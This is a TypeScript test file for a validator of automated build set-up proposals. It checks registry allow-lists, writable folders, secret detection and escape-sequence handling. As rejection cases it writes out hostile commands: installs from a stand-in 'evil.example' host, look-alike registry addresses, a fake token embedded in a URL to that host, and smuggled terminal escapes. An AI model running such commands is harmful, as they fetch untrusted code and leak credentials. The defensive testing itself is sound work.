/** How a set-up run's file is read once it has left the sandbox, beyond what every run's file needs, and the settings that follow. */
import { noSettings, noUsage, type RepositorySettings, type SetUpProposal } from "@aedev/contracts";
import { expect, it } from "vitest";
import { proposedSettings, readSetUp } from "../../src/work/set-up.ts";

const journal = { digest: "a".repeat(64), size_bytes: 1, media_type: "application/json" };
const registries = [
  { host: "registry.npmjs.org", port: 443, secure: true, private: false },
  { host: "npm.internal", port: 4873, secure: false, private: true },
];
const good: SetUpProposal = {
  prepare: "npm ci --ignore-scripts",
  build: null,
  outputs: ["node_modules"],
  verify: ["node --test spec/"],
  tests: ["spec/**"],
  writable: ["tmp"],
  packages: ["bc"],
};
const read = (file: object, settings: RepositorySettings = noSettings, basePaths: readonly string[] = []) => {
  const text = JSON.stringify(file);
  const report = { outcome: "ended", text, size_bytes: text.length, usage: noUsage, journal } as const;
  return readSetUp(report, { settings, registries, basePaths });
};
/** Built here, so that no file of this repository has the form of a secret. */
const secret = ["ghp", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"].join("_");

it("a file in the right form is a proposal; anything else is named without repeating hostile text", async () => {
  expect(await read(good)).toEqual({ outcome: "proposed", proposal: good });
  expect(await read({})).toMatchObject({ outcome: "failed", code: "wrong-form" });
  expect(await read({ ...good, "\u001b[31mimage": "x" })).toMatchObject({
    detail: "the file: a key that a proposal does not have",
  });
  const broken = await read({ ...good, verify: ["true\u001b[2J"] });
  expect(broken).toMatchObject({ code: "wrong-form", detail: "verify.0: not one line of visible characters" });
});

it("a file with an address that no configured registry has is no proposal", async () => {
  const outcome = async (prepare: string) => (await read({ ...good, prepare })).outcome;
  for (const command of [
    "npm ci --registry https://evil.example",
    "npm ci --registry http://registry.npmjs.org",
    "npm ci --registry https://registry.npmjs.org.evil.example/",
    "npm ci --registry https://registry.npmjs.org@evil.example/",
    "npm ci --registry=HTTPS://evil.example:443",
    "pip install git+https://registry.npmjs.org/x",
    "npm i git+ssh://git@registry.npmjs.org/x",
    "npm i git@evil.example:a/b.git",
    "npm ci --registry https://registry.npmjs.org:8443",
  ])
    expect([command, await outcome(command)]).toEqual([command, "failed"]);
  for (const command of [
    "npm ci --registry https://registry.npmjs.org/",
    "npm ci --registry http://npm.internal:4873",
    "npm i -g pnpm@10.1.0",
    "URL=http://localhost:8080/x npm ci",
  ])
    expect([command, await outcome(command)]).toEqual([command, "proposed"]);
});

it("a file that makes files of the base writable is no proposal, unless a person already did so", async () => {
  const basePaths = ["spec/sum.js", "src/a.js", "tmp", "tmpl/a.txt", "spec-data.json"];
  const readWith = (writable: string[], settings?: RepositorySettings) =>
    read({ ...good, writable }, settings, basePaths);
  for (const folder of ["spec", "src", "tmp", "tmp/deeper", "spec-data.json"])
    expect(await readWith(["out", folder])).toEqual({
      ...{ outcome: "failed", code: "wrong-form" },
      detail: `writable: ${folder} has files of the repository; only a person makes it writable`,
    });
  for (const folder of ["out", "spec/out", "tm", "sp", "Spec", "src/a"])
    expect([folder, (await readWith([folder])).outcome]).toEqual([folder, "proposed"]);
  const before = { ...noSettings, writable: ["spec"] };
  expect(await readWith(["spec", "out"], before)).toMatchObject({ outcome: "proposed" });
  expect(await readWith(["src", "spec"], before)).toMatchObject({ code: "wrong-form" });
});

it("a file with a secret is no proposal, and the secret is not repeated, even as part of an address", async () => {
  for (const change of [
    { verify: [`TOKEN=${secret} npm test`] },
    { prepare: `npm ci --registry https://x:${secret}@evil.example` },
  ]) {
    const result = await read({ ...good, ...change });
    expect(result).toMatchObject({ outcome: "failed", code: "secret" });
    expect(JSON.stringify(result)).not.toContain(secret);
  }
});

it("a proposal adds packages only to aedev's own images, and keeps what it does not mention", async () => {
  const before = {
    ...noSettings,
    folder: "packages/a",
    inputs: ["deps/**"],
    image: "python-checks",
    writable: ["old"],
    mutation_time_ms: 5,
  };
  const { packages: _packages, ...proposed } = good;
  expect(proposedSettings(before, good)).toEqual({
    ...{ ...proposed, folder: "packages/a", inputs: ["deps/**"], image: "python-checks:with_bc", mutation_time_ms: 5 },
  });
  expect(proposedSettings(before, { ...good, packages: [], writable: [] })).toEqual({
    ...{
      ...proposed,
      folder: "packages/a",
      inputs: ["deps/**"],
      image: "python-checks",
      mutation_time_ms: 5,
      writable: undefined,
    },
  });
  const own = { ...noSettings, image: "registry.example/mine:1" };
  expect(await read(good, own)).toMatchObject({ code: "wrong-form", detail: expect.stringContaining("packages: ") });
  expect(await read({ ...good, packages: [] }, own)).toMatchObject({ outcome: "proposed" });
});
